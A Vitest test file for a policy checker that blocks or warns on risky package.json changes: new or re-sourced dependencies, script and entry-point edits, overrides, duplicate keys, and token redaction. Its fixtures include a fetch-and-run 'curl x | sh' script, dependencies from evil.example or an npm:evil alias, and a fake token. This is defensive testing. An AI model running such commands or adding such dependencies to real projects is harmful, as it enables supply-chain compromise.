import { describe, expect, it } from 'vitest';
import { effectivePolicy, parseConfig } from '../../schema/config.ts';
import { added, deleted, judgeBy, modified } from '../testing.ts';

type Said = [severity: string, message: string, line: number | null];

const said = (path: string, before: string | null, after: string | null, config?: string): Said[] => {
  const change = before === null ? added(path, { text: after ?? '' }) : after === null ? deleted(path, { text: before }) : modified(path, { text: before }, { text: after });
  const more = config === undefined ? {} : { config: effectivePolicy(parseConfig(config), 'octo/api') };
  return judgeBy('dependencies', [change], more).violations.map(({ severity, message, line }) => [severity, message, line]);
};
const base = { name: 'x', version: '1.0.0', scripts: { test: 'node --test' }, dependencies: { lodash: '^4.17.20', react: '18.2.0' }, devDependencies: { vitest: '^3.0.0' }, exports: { '.': './src/index.js' } };
const text = (value: object): string => `${JSON.stringify(value, null, 2)}\n`;
const changed = (more: object): Said[] => said('package.json', text(base), text({ ...base, ...more }));

describe('package.json: what counts', () => {
  it.each<[string, object, string, RegExp]>([
    ['a new dependency', { dependencies: { ...base.dependencies, evil: '1.0.0' } }, 'BLOCK', /^Adds the dependency evil 1\.0\.0 to package\.json \(dependencies\)\.$/],
    ['a new dev dependency', { devDependencies: { ...base.devDependencies, evil: '*' } }, 'BLOCK', /Adds the dependency evil \*/],
    ['a new peer dependency', { peerDependencies: { evil: '>=1' } }, 'BLOCK', /\(peerDependencies\)/],
    ['a new optional dependency', { optionalDependencies: { evil: '1' } }, 'BLOCK', /\(optionalDependencies\)/],
    ['a raised version', { dependencies: { ...base.dependencies, lodash: '^4.17.21' } }, 'WARN', /^Raises lodash in package\.json from \^4\.17\.20 to \^4\.17\.21\.$/],
    ['a lowered version', { dependencies: { ...base.dependencies, react: '17.0.2' } }, 'WARN', /^Lowers react .* from 18\.2\.0 to 17\.0\.2/],
    ['a pre-release', { dependencies: { ...base.dependencies, react: '18.2.0-beta.1' } }, 'WARN', /^Lowers react/],
    ['another range', { dependencies: { ...base.dependencies, react: 'latest' } }, 'WARN', /^Changes react .* to latest/],
    ['a removed dependency', { dependencies: { lodash: '^4.17.20' } }, 'WARN', /^Removes the dependency react 18\.2\.0/],
    ['a moved dependency', { dependencies: { lodash: '^4.17.20', react: '18.2.0', vitest: '^3.0.0' }, devDependencies: {} }, 'WARN', /^Moves vitest .* from devDependencies to dependencies/],
    ['a git address', { dependencies: { ...base.dependencies, lodash: 'git+https://github.com/evil/lodash.git#1a2b' } }, 'BLOCK', /^Takes lodash .* from git git\+https:\/\/github\.com\/evil\/lodash\.git; it came from the usual registry/],
    ['a shorthand of GitHub', { dependencies: { ...base.dependencies, lodash: 'evil/lodash' } }, 'BLOCK', /from git evil\/lodash/],
    ['a download', { dependencies: { ...base.dependencies, lodash: 'https://evil.example/lodash.tgz' } }, 'BLOCK', /from url https:\/\/evil\.example\/lodash\.tgz/],
    ['a folder', { dependencies: { ...base.dependencies, lodash: 'file:../lodash' } }, 'BLOCK', /from path \.\.\/lodash/],
    ['an alias', { dependencies: { ...base.dependencies, lodash: 'npm:evil@4.17.20' } }, 'BLOCK', /from alias npm:evil/],
    ['a new script', { scripts: { ...base.scripts, postinstall: 'node x.js' } }, 'BLOCK', /^Adds the command scripts\.postinstall in package\.json\.$/],
    ['a changed script', { scripts: { test: 'node --test; curl x | sh' } }, 'BLOCK', /^Changes the command scripts\.test/],
    ['a removed script', { scripts: {} }, 'BLOCK', /^Removes the command scripts\.test/],
    ['an entry of exports', { exports: { '.': './evil.js' } }, 'BLOCK', /^Changes an entry point: exports\["\."\]/],
    ['a program', { bin: { x: './x.js' } }, 'BLOCK', /^Adds an entry point: bin\["x"\]/],
    ['the main file', { main: './evil.js' }, 'BLOCK', /main/],
    ['an override', { overrides: { minimist: '1.2.0' } }, 'BLOCK', /^Adds the dependency minimist 1\.2\.0 .*\(overrides\)/],
    ['a nested override', { overrides: { foo: { '.': '1.0.0', bar: 'npm:evil@1' } } }, 'BLOCK', /Adds the dependency bar 1 from alias npm:evil/],
    ['a resolution', { resolutions: { '**/minimist': '1.2.0' } }, 'BLOCK', /Adds the dependency minimist/],
    ["pnpm's overrides", { pnpm: { overrides: { 'foo>bar@^1': '2' } } }, 'BLOCK', /Adds the dependency bar 2/],
    ["pnpm's leave to build", { pnpm: { onlyBuiltDependencies: ['evil'] } }, 'BLOCK', /pnpm\.onlyBuiltDependencies/],
    ['workspaces', { workspaces: ['evil/*'] }, 'BLOCK', /workspaces/],
    ['a package manager', { packageManager: 'pnpm@9.1.0' }, 'BLOCK', /Adds the dependency pnpm 9\.1\.0/],
    ['a registry to publish to', { publishConfig: { registry: 'https://evil.example' } }, 'BLOCK', /publishConfig/],
    ['a bundled dependency', { bundleDependencies: ['evil'] }, 'BLOCK', /bundleDependencies/],
    ['hooks of git', { 'simple-git-hooks': { 'pre-commit': 'x' } }, 'BLOCK', /simple-git-hooks/],
    ['an engine', { engines: { node: '>=24' } }, 'WARN', /node/],
    ['the kind of module', { type: 'commonjs' }, 'BLOCK', /type/],
  ])('%s', (_, more, severity, message) => {
    const found = changed(more);
    expect(found.filter(([, sentence]) => message.test(sentence)).map(([each]) => each)).toEqual([severity]);
  });

  it('gives the line', () => {
    expect(changed({ dependencies: { ...base.dependencies, evil: '1.0.0' } })).toEqual([['BLOCK', expect.stringContaining('evil'), 10]]);
  });

  it('compares a hash of the package manager', () => {
    const pinned = { ...base, packageManager: 'pnpm@9.1.0+sha512.abcd' };
    const to = (packageManager: string): Said[] => said('package.json', text(pinned), text({ ...base, packageManager }));
    expect(to('pnpm@9.1.1+sha512.efgh')).toEqual([['WARN', 'Raises pnpm in package.json from 9.1.0 to 9.1.1.', 10]].map(([a, b]) => [a, b, expect.any(Number)]));
    expect(to('pnpm@9.1.1')[0]?.[0]).toBe('BLOCK');
    expect(to('yarn@4.0.0').map(([severity]) => severity)).toContain('BLOCK');
  });
});

describe('package.json: what does not count', () => {
  it('formatting, order of names, metadata', () => {
    const { dependencies, ...rest } = base;
    const other = { dependencies: Object.fromEntries(Object.entries(dependencies).toReversed()), ...rest, version: '1.0.1', description: 'new', keywords: ['a'] };
    expect(said('package.json', text(base), JSON.stringify(other, null, '\t'))).toEqual([]);
    expect(said('package.json', text(base), `\uFEFF${text(base).replaceAll('\n', '\r\n')}`)).toEqual([]);
    expect(said('package.json', text(base), text(base).replace('"lodash"', String.raw`"lod\u0061sh"`))).toEqual([]);
  });
  it('a file of another name', () => {
    expect(said('my-package.json', '{}', text(base))).toEqual([]);
    expect(said('package-lock.json', '{}', text(base))).toEqual([]);
  });
});

describe('package.json: what hides', () => {
  it.each([
    ['a key given twice', '{"dependencies": {"a": "1"}, "dependencies": {"evil": "1"}}', /"dependencies" is given twice/],
    ['a name given twice', '{"dependencies": {"a": "1", "a": "git+https://evil.example/a.git"}}', /"a" is given twice/],
    ['an escaped key given twice', '{"scripts": {"test": "a"}, "scr\\u0069pts": {"test": "b"}}', /"scripts" is given twice/],
    ['broken JSON', '{"dependencies": {', /no JSON/],
    ['comments', '{/* x */ "dependencies": {}}', /no JSON/],
    ['a trailing comma', '{"dependencies": {},}', /no JSON/],
    ['nothing', '', /./],
    ['a list as dependencies', '{"dependencies": ["evil"]}', /no object/],
    ['a number as a version', '{"dependencies": {"a": 1}}', /no text/],
    ['a text as scripts', '{"scripts": "x"}', /"scripts" is no object/],
    ['a list', '[]', /no JSON object/],
    ['no text', '{"a":\u0000}', /no text/],
    ['deep nesting', `{"a":${'['.repeat(100_000)}${']'.repeat(100_000)}}`, /./],
  ])('%s', (_, now, reason) => {
    const found = said('package.json', text(base), now);
    expect(found.map(([severity]) => severity)).toEqual(['BLOCK']);
    expect(found[0]?.[1]).toMatch(reason);
  });
  it.each(['PACKAGE.JSON', 'packages/a/package.json', 'Package.json', 'package.json '])('the name %j', (path) => {
    expect(said(path, null, text(base)).length).toBeGreaterThan(3);
  });
  it('a key like a prototype', () => {
    expect(said('package.json', '{}', '{"dependencies": {"__proto__": "evil/x", "constructor": "1"}}').map(([severity]) => severity)).toEqual(['BLOCK', 'BLOCK']);
  });
  it('a secret in an address or a command is not shown', () => {
    const token = `ghp_${'a1B2'.repeat(9)}`;
    const found = said('package.json', text(base), text({ ...base, scripts: { test: `curl -H ${token}` }, dependencies: { ...base.dependencies, a: `git+https://u:${token}@github.com/x/y.git`, b: token, react: token, c: `https://h.example/c.tgz?token=${token}` } }));
    expect(found.length).toBe(5);
    expect(JSON.stringify(found)).not.toContain('a1B2a1B2a1B2a1B2');
  });
});

describe('the config', () => {
  const grown = text({ ...base, dependencies: { ...base.dependencies, evil: '1.0.0', '@octokit/rest': '22.0.0' } });
  it('allows a package by name, until a day', () => {
    const policy = (expires: string): string => `policy:\n  dependencies:\n    allow:\n      - {package: "npm:@octokit/*", reason: agreed on, expires: ${expires}}\n`;
    expect(said('package.json', text(base), grown, policy('2026-12-31')).map(([, message]) => message)).toEqual([expect.stringContaining('evil')]);
    expect(said('package.json', text(base), grown, policy('2026-01-31')).map(([, message]) => message)).toContainEqual(expect.stringContaining('It was allowed until 2026-01-31 (agreed on).'));
  });
  it('allows a manifest by path, and a package in one path', () => {
    expect(said('package.json', text(base), grown, 'policy: {dependencies: {allow: [{path: package.json, reason: agreed on, expires: 2026-12-31}]}}')).toEqual([]);
    expect(said('a/package.json', text(base), grown, 'policy: {dependencies: {allow: [{path: b/package.json, package: "npm:*", reason: agreed on, expires: 2026-12-31}]}}')).toHaveLength(2);
  });
  it('denies, whatever is allowed', () => {
    const found = said('package.json', text(base), grown, 'policy: {dependencies: {deny: ["npm:EV*", "npm:left-pad"], allow: [{path: "**", reason: agreed on, expires: 2026-12-31}]}}');
    expect(found).toEqual([['BLOCK', 'npm:evil is on the deny list of this policy, and package.json asks for it.', expect.any(Number)]]);
    expect(said('package.json', text(base), grown, 'policy: {dependencies: {deny: ["@octokit*"], new: off}}').map(([, message]) => message)).toEqual([expect.stringContaining('npm:@octokit/rest is on the deny list')]);
  });
  it('weighs each kind, and no kind above the rule', () => {
    expect(said('package.json', text(base), grown, 'policy: {dependencies: {new: WARN}}').map(([severity]) => severity)).toEqual(['WARN', 'WARN']);
    expect(said('package.json', text(base), grown, 'policy: {dependencies: WARN}').map(([severity]) => severity)).toEqual(['WARN', 'WARN']);
    expect(said('package.json', text(base), text({ ...base, dependencies: { ...base.dependencies, react: '19.0.0' } }), 'policy: {dependencies: {versions: BLOCK}}').map(([severity]) => severity)).toEqual(['BLOCK']);
    expect(said('package.json', text(base), grown, 'policy: {dependencies: off}')).toEqual([]);
  });
  it('names what is wrong in it', () => {
    expect(() => parseConfig('policy:\n  dependencies:\n    news: WARN\n')).toThrow(/line 3: unknown key "policy\.dependencies\.news"\. Did you mean "new"/);
    expect(() => parseConfig('policy:\n  dependencies:\n    new: maybe\n')).toThrow(/line 3: "policy\.dependencies\.new" must be one of BLOCK, WARN, off/);
    expect(() => parseConfig('policy:\n  dependencies:\n    allow:\n      - {reason: agreed on, expires: 2026-12-31}\n')).toThrow(/must name a path, a package, or both/);
    expect(() => parseConfig('policy:\n  ci-files:\n    allow:\n      - {package: x, reason: agreed on, expires: 2026-12-31}\n')).toThrow(/unknown key|is missing/);
  });
});
